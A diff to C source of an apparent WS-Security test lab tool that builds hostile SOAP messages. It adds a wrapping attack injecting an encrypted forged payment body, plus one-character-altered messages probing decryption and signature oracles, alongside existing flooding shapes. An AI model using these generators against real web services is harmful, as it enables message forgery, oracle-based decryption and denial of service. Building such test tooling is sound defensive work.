@@ -25,7 +25,8 @@ enum { DEFAULT_ENC = 100, MAX_JUNK_PREFIXES = 9000, KEY_LEN = 32 };
 int lab_hostile_kind_parse(const char *name, lab_hostile_kind *out)
 {
 	static const char *const names[] = {"many-enc", "many-enc-body",
-					    "signedinfo-junk"};
+					    "signedinfo-junk", "decrypt-wrap",
+					    "oracle-decrypt", "oracle-signature"};
 	size_t i;
 
 	for (i = 0; i < sizeof names / sizeof names[0]; i++)
@@ -40,7 +41,10 @@ int lab_hostile_kind_parse(const char *name, lab_hostile_kind *out)
  * sender's key, with a Security header either way, serialized. */
 static int base_message(const lab_hostile_opts *o, lab_buf *s, lab_err *err)
 {
-	lab_gen_opts g = {LAB_GEN_QUAKES, 0, 0, 1};
+	/* The oracle shapes are a typical message of o->size bytes. */
+	int timed = o->kind == LAB_HOSTILE_ORACLE_DECRYPT ||
+		    o->kind == LAB_HOSTILE_ORACLE_SIGNATURE;
+	lab_gen_opts g = {LAB_GEN_QUAKES, timed ? o->size : 0, 0, 1};
 	lab_buf xml = LAB_BUF_INIT;
 	dom_doc *doc = NULL;
 	wss_opts w;
@@ -97,9 +101,10 @@ static int weave(const lab_buf *s, size_t i, const lab_buf *a, size_t j,
 	return LAB_OK;
 }
 
-/* One EncryptedData "hx-i" of plaintext pt under key, appended to b. */
+/* One EncryptedData "hx-i" of plaintext pt under key, appended to b
+ * (Type Element when element, else Content). */
 static int put_encrypted(lab_buf *b, size_t i, const unsigned char *key,
-			 const char *pt, lab_err *err)
+			 const char *pt, int element, lab_err *err)
 {
 	lab_buf ct = LAB_BUF_INIT;
 	int rc = wss_encrypt(WSS_AES256_GCM, key, pt, strlen(pt), &ct, err);
@@ -107,10 +112,11 @@ static int put_encrypted(lab_buf *b, size_t i, const unsigned char *key,
 	if (rc == LAB_OK &&
 	    (lab_buf_printf(b,
 			    "<xenc:EncryptedData xmlns:xenc=\"" WSS_NS_XENC
-			    "\" Id=\"hx-%zu\" Type=\"" WSS_TYPE_CONTENT
-			    "\"><xenc:EncryptionMethod Algorithm=\"%s\"/>"
+			    "\" Id=\"hx-%zu\" Type=\"%s\">"
+			    "<xenc:EncryptionMethod Algorithm=\"%s\"/>"
 			    "<xenc:CipherData><xenc:CipherValue>",
-			    i, wss_cipher_uri(WSS_AES256_GCM)) != LAB_OK ||
+			    i, element ? WSS_TYPE_ELEMENT : WSS_TYPE_CONTENT,
+			    wss_cipher_uri(WSS_AES256_GCM)) != LAB_OK ||
 	     wss_base64_encode(ct.data, ct.len, 0, b) != LAB_OK ||
 	     lab_buf_puts(b, "</xenc:CipherValue></xenc:CipherData>"
 			     "</xenc:EncryptedData>") != LAB_OK))
@@ -119,18 +125,45 @@ static int put_encrypted(lab_buf *b, size_t i, const unsigned char *key,
 	return rc;
 }
 
-/* The EncryptedKey holding key for o->peer, its ReferenceList open. */
+/* The KeyInfo naming o->peer by its thumbprint, as a sender's does: the
+ * certificate is public. */
+static int put_thumbprint(const lab_hostile_opts *o, lab_buf *b, lab_err *err)
+{
+	unsigned char sha1[WSS_SHA1_LEN];
+	size_t len;
+	const unsigned char *der = wss_cert_der(o->peer, &len);
+
+	if (wss_sha1(der, len, sha1) != LAB_OK)
+		return lab_fail(err, LAB_ENOMEM, "digest failed");
+	if (lab_buf_puts(b, "<ds:KeyInfo xmlns:ds=\"" WSS_NS_DS "\">"
+			    "<wsse:SecurityTokenReference xmlns:wsse=\""
+			    WSS_NS_WSSE "\"><wsse:KeyIdentifier EncodingType=\""
+			    WSS_BASE64 "\" ValueType=\"" WSS_THUMBPRINT
+			    "\">") != LAB_OK ||
+	    wss_base64_encode(sha1, sizeof sha1, 0, b) != LAB_OK ||
+	    lab_buf_puts(b, "</wsse:KeyIdentifier></wsse:SecurityTokenReference>"
+			    "</ds:KeyInfo>") != LAB_OK)
+		return lab_fail(err, LAB_ENOMEM, "out of memory");
+	return LAB_OK;
+}
+
+/* The EncryptedKey holding key for o->peer, its ReferenceList open;
+ * named: with a KeyInfo naming the peer. */
 static int open_key(const lab_hostile_opts *o, const unsigned char *key,
-		    lab_buf *refs, lab_err *err)
+		    int named, lab_buf *refs, lab_err *err)
 {
 	lab_buf wrapped = LAB_BUF_INIT;
 	int rc = wss_rsa_oaep_wrap(o->peer, key, KEY_LEN, &wrapped, err);
 
 	if (rc == LAB_OK &&
-	    (lab_buf_puts(refs, "<xenc:EncryptedKey xmlns:xenc=\"" WSS_NS_XENC
-				"\" Id=\"EK-hostile\"><xenc:EncryptionMethod "
-				"Algorithm=\"" WSS_ALG_RSA_OAEP "\"/>"
-				"<xenc:CipherData><xenc:CipherValue>") !=
+	    lab_buf_puts(refs, "<xenc:EncryptedKey xmlns:xenc=\"" WSS_NS_XENC
+			       "\" Id=\"EK-hostile\"><xenc:EncryptionMethod "
+			       "Algorithm=\"" WSS_ALG_RSA_OAEP "\"/>") != LAB_OK)
+		rc = lab_fail(err, LAB_ENOMEM, "out of memory");
+	if (rc == LAB_OK && named)
+		rc = put_thumbprint(o, refs, err);
+	if (rc == LAB_OK &&
+	    (lab_buf_puts(refs, "<xenc:CipherData><xenc:CipherValue>") !=
 		     LAB_OK ||
 	     wss_base64_encode(wrapped.data, wrapped.len, 0, refs) != LAB_OK ||
 	     lab_buf_puts(refs, "</xenc:CipherValue></xenc:CipherData>"
@@ -153,7 +186,7 @@ static int many_enc(const lab_hostile_opts *o, size_t base, lab_buf *refs,
 	int rc = wss_random(key, sizeof key, err);
 
 	if (rc == LAB_OK)
-		rc = open_key(o, key, refs, err);
+		rc = open_key(o, key, 0, refs, err);
 	if (rc == LAB_OK && !body &&
 	    lab_buf_puts(eds, "<h:block xmlns:h=\"" HOSTILE_NS "\">") != LAB_OK)
 		rc = lab_fail(err, LAB_ENOMEM, "out of memory");
@@ -168,7 +201,7 @@ static int many_enc(const lab_hostile_opts *o, size_t base, lab_buf *refs,
 				 "%zu</h:v>", i, i);
 		else
 			snprintf(pt, sizeof pt, "<h:v>%zu</h:v>", i);
-		rc = put_encrypted(eds, i, key, pt, err);
+		rc = put_encrypted(eds, i, key, pt, 0, err);
 		if (rc == LAB_OK &&
 		    lab_buf_printf(refs, "<xenc:DataReference URI=\"#hx-%zu\"/>",
 				   i) != LAB_OK)
@@ -210,6 +243,108 @@ static int junk(const lab_hostile_opts *o, size_t base, lab_buf *decls,
 			    : LAB_OK;
 }
 
+/* decrypt-wrap: the EncryptedKey (into refs) and the EncryptedHeader
+ * holding the one EncryptedData it names (into eds). */
+static int wrap(const lab_hostile_opts *o, lab_buf *refs, lab_buf *eds,
+		lab_err *err)
+{
+	static const char body[] =
+		"<soap:Body xmlns:soap=\"" WSS_NS_SOAP "\" xmlns:wsu=\""
+		WSS_NS_WSU "\" wsu:Id=\"Body-1\"><pay xmlns=\"urn:bank\">"
+		"1000000 to mallory</pay></soap:Body>";
+	unsigned char key[KEY_LEN];
+	int rc = wss_random(key, sizeof key, err);
+
+	if (rc == LAB_OK)
+		rc = open_key(o, key, 1, refs, err);
+	if (rc == LAB_OK &&
+	    (lab_buf_puts(refs, "<xenc:DataReference URI=\"#hx-0\"/>"
+				"</xenc:ReferenceList></xenc:EncryptedKey>") !=
+		     LAB_OK ||
+	     lab_buf_puts(eds, "<wsse11:EncryptedHeader xmlns:wsse11=\""
+			       WSS_NS_WSSE11 "\">") != LAB_OK))
+		rc = lab_fail(err, LAB_ENOMEM, "out of memory");
+	if (rc == LAB_OK)
+		rc = put_encrypted(eds, 0, key,
+				   o->plain != NULL ? o->plain : body, 1, err);
+	if (rc == LAB_OK &&
+	    lab_buf_puts(eds, "</wsse11:EncryptedHeader>") != LAB_OK)
+		rc = lab_fail(err, LAB_ENOMEM, "out of memory");
+	OPENSSL_cleanse(key, sizeof key);
+	return rc;
+}
+
+/* decrypt-wrap's two places in s: the EncryptedKey's at *i, the
+ * EncryptedHeader's at *j, at the Header's end. */
+static int wrap_places(const lab_hostile_opts *o, const lab_buf *s,
+		       size_t *i, size_t *j, lab_err *err)
+{
+	int rc = o->after_signature
+			 ? find(s, "</ds:Signature>", PAST_CLOSE, i, err)
+			 : find(s, "<wsse:Security", PAST_CLOSE, i, err);
+
+	return rc != LAB_OK ? rc : find(s, "</soap:Header", FROM_START, j, err);
+}
+
+/* decrypt-wrap: the message, o->message or one o's keys send, with the
+ * attack woven in. */
+static int decrypt_wrap(const lab_hostile_opts *o, lab_buf *out, lab_err *err)
+{
+	lab_buf s = LAB_BUF_INIT, a = LAB_BUF_INIT, b = LAB_BUF_INIT;
+	size_t i = 0, j = 0;
+	int rc = LAB_OK;
+
+	if (o->peer == NULL)
+		return lab_fail(err, LAB_EUSAGE, "--peer-cert is required");
+	if (o->message == NULL && (o->key == NULL || o->cert == NULL))
+		return lab_fail(err, LAB_EUSAGE,
+				"--message, or --key and --cert, are required");
+	if (o->message == NULL)
+		rc = base_message(o, &s, err);
+	else if (lab_buf_put(&s, o->message, o->message_len) != LAB_OK ||
+		 lab_buf_putc(&s, '\0') != LAB_OK)
+		rc = lab_fail(err, LAB_ENOMEM, "out of memory");
+	else
+		s.len--;
+	if (rc == LAB_OK)
+		rc = wrap_places(o, &s, &i, &j, err);
+	if (rc == LAB_OK)
+		rc = wrap(o, &a, &b, err);
+	if (rc == LAB_OK)
+		rc = weave(&s, i, &a, j, &b, out, err);
+	lab_buf_free(&s);
+	lab_buf_free(&a);
+	lab_buf_free(&b);
+	return rc;
+}
+
+/* oracle-decrypt and oracle-signature: the base message, one character
+ * changed where preauth.h says. */
+static int oracle(const lab_hostile_opts *o, lab_buf *out, lab_err *err)
+{
+	const char *tag = o->kind == LAB_HOSTILE_ORACLE_DECRYPT
+				  ? "</xenc:CipherValue></xenc:CipherData>"
+				    "</xenc:EncryptedData></soap:Body>"
+				  : "<wsu:Expires>";
+	char *p;
+	int rc;
+
+	if (o->key == NULL || o->cert == NULL || o->peer == NULL)
+		return lab_fail(err, LAB_EUSAGE,
+				"--key, --cert and --peer-cert are required");
+	rc = base_message(o, out, err);
+	p = rc == LAB_OK ? strstr(out->data, tag) : NULL;
+	if (rc == LAB_OK && p == NULL)
+		return lab_fail(err, LAB_EUSAGE, "base message has no %s", tag);
+	if (rc != LAB_OK)
+		return rc;
+	/* The tag's last base64 character (before one '=' of padding), or
+	 * the year's last digit. */
+	p = o->kind == LAB_HOSTILE_ORACLE_DECRYPT ? p - 2 : p + 13 + 3;
+	*p = *p == 'A' ? 'B' : *p == '9' ? '0' : (char)(*p + 1);
+	return LAB_OK;
+}
+
 int lab_hostile(const lab_hostile_opts *o, lab_buf *out, lab_err *err)
 {
 	int enc = o->kind != LAB_HOSTILE_SIGNEDINFO_JUNK;
@@ -217,6 +352,11 @@ int lab_hostile(const lab_hostile_opts *o, lab_buf *out, lab_err *err)
 	size_t i = 0, j = 0;
 	int rc;
 
+	if (o->kind == LAB_HOSTILE_DECRYPT_WRAP)
+		return decrypt_wrap(o, out, err);
+	if (o->kind == LAB_HOSTILE_ORACLE_DECRYPT ||
+	    o->kind == LAB_HOSTILE_ORACLE_SIGNATURE)
+		return oracle(o, out, err);
 	if (enc && o->peer == NULL)
 		return lab_fail(err, LAB_EUSAGE, "--peer-cert is required");
 	if ((!enc || o->key != NULL) && (o->key == NULL || o->cert == NULL))
